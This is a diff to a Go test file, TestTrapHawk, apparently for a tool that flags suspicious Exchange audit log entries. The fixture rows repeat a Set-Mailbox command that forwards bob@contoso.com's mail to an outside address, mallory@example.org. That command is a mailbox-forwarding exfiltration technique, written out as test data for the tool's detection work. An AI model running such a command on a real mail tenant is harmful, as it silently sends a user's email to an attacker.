@@ -246,6 +246,8 @@ func TestTrapHawk(t *testing.T) {
 	}
 	f([]string{"CreationTime", "Id", "Operation", "UserId", "Workload", "ResultStatus", "FullCommand", "ParameterString", "Param_Identity", "Param_ForwardingSmtpAddress"},
 		[]string{"2026-03-02T10:00:00", "0a1b2c3d-0000-4000-8000-000000000001", "Set-Mailbox", "admin@contoso.com", "Exchange", "True", "Set-Mailbox -Identity bob@contoso.com -ForwardingSmtpAddress smtp:mallory@example.org", "-Identity bob@contoso.com -ForwardingSmtpAddress smtp:mallory@example.org", "bob@contoso.com", "smtp:mallory@example.org"})
+	f([]string{"Caller", "Cmdlet", "FullCommand", "RunDate"},
+		[]string{"admin@contoso.com", "Set-Mailbox", "Set-Mailbox -Identity bob@contoso.com -ForwardingSmtpAddress smtp:mallory@example.org", "3/2/2026 10:00:00 AM"})
 	f([]string{"Caller", "Cmdlet", "FullCommand", "RunDate", "ParameterString"},
 		[]string{"admin@contoso.com", "Set-Mailbox", "x", "3/2/2026 10:00:00 AM", `-Identity "bob@contoso.com" -ForwardingSmtpAddress "smtp:mallory@example.org"`})
 }
